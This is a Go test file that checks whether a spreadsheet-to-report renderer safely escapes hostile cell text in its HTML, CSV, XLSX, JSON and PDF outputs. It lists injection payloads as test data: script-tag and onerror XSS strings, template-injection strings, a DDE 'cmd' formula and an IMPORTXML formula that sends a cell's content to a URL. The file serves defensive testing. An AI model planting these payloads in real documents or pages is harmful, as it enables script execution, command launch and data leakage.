package render

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/xuri/excelize/v2"
	"golang.org/x/net/html/atom"

	"github.com/perechen-oiv/perechen/rules"
)

// hostileCellTexts are what a person (or an attacker with edit rights) can
// paste into a cell of the shared sheet.
var hostileCellTexts = []string{
	`<script>window.__xss=1</script>`,
	`"><img src=x onerror="window.__xss=2">`,
	`{{.}} {{template "x"}} {{printf "%s" .}}`,
	"Получение\u202eиицатьлусноК",       // RTL override
	"Получение\u200bконсультации\ufeff", // zero-width space and BOM
	`=HYPERLINK("http://x","y")`,        // formulas: must never be evaluated
	`=IMPORTXML("http://x/?"&A1,"//a")`,
	`+cmd|' /C calc'!A0`,
	`@SUM(1)`,
	`-2+3`,
}

// hugeCell is a 50,000-character cell, Google Sheets' maximum.
var hugeCell = func() string {
	s := strings.Repeat("Длинный текст ", 50000/14+1)
	return string([]rune(s)[:49999]) + "Я"
}()

func hostileCellsRegistry() *rules.Registry {
	var needs []rules.Need
	for _, s := range hostileCellTexts {
		needs = append(needs, rules.Need{Text: s})
	}
	needs = append(needs, rules.Need{Text: hugeCell})
	return &rules.Registry{Processes: []rules.Process{
		{Number: "1", Name: hostileCellTexts[2], Touchpoints: []rules.Touchpoint{{Name: hostileCellTexts[3], Kind: hostileCellTexts[5], Needs: needs}}},
	}}
}

func hostileMeta(t *testing.T) Meta {
	return Meta{Profile: mustProfile(t, "oiv"), Organisation: `{{.Organisation}} <b>орган</b> `, VersionLabel: "\u202eверсия"}
}

// TestHostileCellsHTML: every payload is text in its own cell — no element is
// created, template actions are not executed, the 50,000-character cell is whole.
func TestHostileCellsHTML(t *testing.T) {
	reg := hostileCellsRegistry()
	for _, fragment := range []bool{false, true} {
		page := renderBytes(t, NewHTML(HTMLOptions{Fragment: fragment}), reg, hostileMeta(t))
		rows, _, _, doc := htmlTable(t, page)
		if n := len(findAll(doc, atom.Script)) + len(findAll(doc, atom.Img)) + len(findAll(doc, atom.Svg)) + len(findAll(doc, atom.B)); n != 0 {
			t.Errorf("fragment=%v: %d elements created from cell text", fragment, n)
		}
		if len(rows) != len(hostileCellTexts)+1 {
			t.Fatalf("fragment=%v: %d rows, want %d", fragment, len(rows), len(hostileCellTexts)+1)
		}
		for i, want := range append(append([]string{}, hostileCellTexts...), hugeCell) {
			if rows[i][3] != want {
				t.Errorf("fragment=%v: need %d shown as %.80q, want %.80q", fragment, i, rows[i][3], want)
			}
		}
		if rows[0][1] != hostileCellTexts[2] || rows[0][2] != hostileCellTexts[3] || rows[0][4] != hostileCellTexts[5] {
			t.Errorf("fragment=%v: process/touchpoint/kind %q", fragment, rows[0])
		}
		if !fragment && !bytes.Contains(page, []byte("{{.Organisation}} &lt;b&gt;")) {
			t.Error("organisation with template action not shown literally")
		}
	}
}

// TestHostileCellsCSV: formula-looking cells get a leading apostrophe,
// everything else (RTL, zero-width, 50,000 characters) is kept as is.
func TestHostileCellsCSV(t *testing.T) {
	out := renderBytes(t, NewCSV(CSVOptions{}), hostileCellsRegistry(), hostileMeta(t))
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(out, []byte("\xEF\xBB\xBF")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var needs []string
	for _, r := range recs[1:] {
		needs = append(needs, r[3])
		for _, c := range r {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("CSV cell %.60q would run as a formula", c)
			}
		}
	}
	for i, want := range append(append([]string{}, hostileCellTexts...), hugeCell) {
		if strings.ContainsRune("=+-@", rune(want[0])) {
			want = "'" + want
		}
		if i >= len(needs) || needs[i] != want {
			t.Errorf("need %d: CSV has %.60q, want %.60q", i, needs[min(i, len(needs)-1)], want)
		}
	}
}

// TestHostileCellsXLSX: no cell of the workbook is a formula; long text is cut
// only at the format's 32,767-character limit (the sheet, not the workbook,
// is the source of truth).
func TestHostileCellsXLSX(t *testing.T) {
	meta := hostileMeta(t)
	meta.Organisation += strings.Repeat(" очень длинное название", 400) // a title row taller than 409 points
	out := renderBytes(t, NewXLSX(), hostileCellsRegistry(), meta)
	f, err := excelize.OpenReader(bytes.NewReader(out))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows(xlsxSheet)
	if err != nil {
		t.Fatal(err)
	}
	formulas := 0
	for r := range rows {
		for c := range rows[r] {
			ref, _ := excelize.CoordinatesToCellName(c+1, r+1)
			if fm, _ := f.GetCellFormula(xlsxSheet, ref); fm != "" {
				formulas++
				t.Errorf("%s is a formula %q", ref, fm)
			}
		}
	}
	first := 0
	for r := range rows {
		if len(rows[r]) > 3 && rows[r][3] == hostileCellTexts[0] {
			first = r + 1
		}
	}
	if first == 0 {
		t.Fatal("first need not found in column D")
	}
	for i, want := range hostileCellTexts {
		if got, _ := f.GetCellValue(xlsxSheet, "D"+pxItoa(first+i)); got != want {
			t.Errorf("D%d = %q, want %q", first+i, got, want)
		}
	}
	got, _ := f.GetCellValue(xlsxSheet, "D"+pxItoa(first+len(hostileCellTexts)))
	if n := len(utf16.Encode([]rune(got))); n != excelize.TotalCellChars || !strings.HasPrefix(hugeCell, got) {
		t.Errorf("50,000-character cell: %d UTF-16 units, prefix of the input %v; want the first %d", n, strings.HasPrefix(hugeCell, got), excelize.TotalCellChars)
	}
	if kind, _ := f.GetCellValue(xlsxSheet, "E"+pxItoa(first)); kind != hostileCellTexts[5] {
		t.Errorf("kind cell %q", kind)
	}
}

// TestHostileCellsJSON: the JSON keeps every text byte for byte.
func TestHostileCellsJSON(t *testing.T) {
	out := renderBytes(t, NewJSON(), hostileCellsRegistry(), hostileMeta(t))
	if !json.Valid(out) {
		t.Fatal("invalid JSON")
	}
	for _, want := range append(append([]string{}, hostileCellTexts...), hugeCell) {
		enc, _ := json.Marshal(want)
		if !bytes.Contains(out, enc[1:len(enc)-1]) {
			t.Errorf("JSON lacks %.60q", want)
		}
	}
	if bytes.Contains(out, []byte("<script")) {
		t.Error("JSON carries a raw <script (must be \\u003c-escaped for safe embedding)")
	}
}

// TestHostileCellsPDF: the PDF renders (a 50,000-character cell flows over
// pages) and the text is extractable.
func TestHostileCellsPDF(t *testing.T) {
	out := renderBytes(t, NewPDF(), hostileCellsRegistry(), hostileMeta(t))
	if pxPages(out) < 2 {
		t.Errorf("%d pages for a 50,000-character cell", pxPages(out))
	}
	text := pxSqueeze(pxPdftotext(t, out, "-raw"))
	for _, w := range []string{`=HYPERLINK("http://x","y")`, `+cmd|'/Ccalc'!A0`, `@SUM(1)`, `<script>window.__xss=1</script>`, `{{.}}{{template"x"}}`, "ДлинныйтекстДлинный"} {
		if !strings.Contains(text, pxSqueeze(w)) {
			t.Errorf("PDF text lacks %q", w)
		}
	}
	if got, want := strings.Count(text, "Длинныйтекст"), strings.Count(hugeCell, "Длинный текст"); got < want-2*pxPages(out) { // a page break may split one repeat
		t.Errorf("PDF holds %d of %d repeats of the 50,000-character cell", got, want)
	}
}
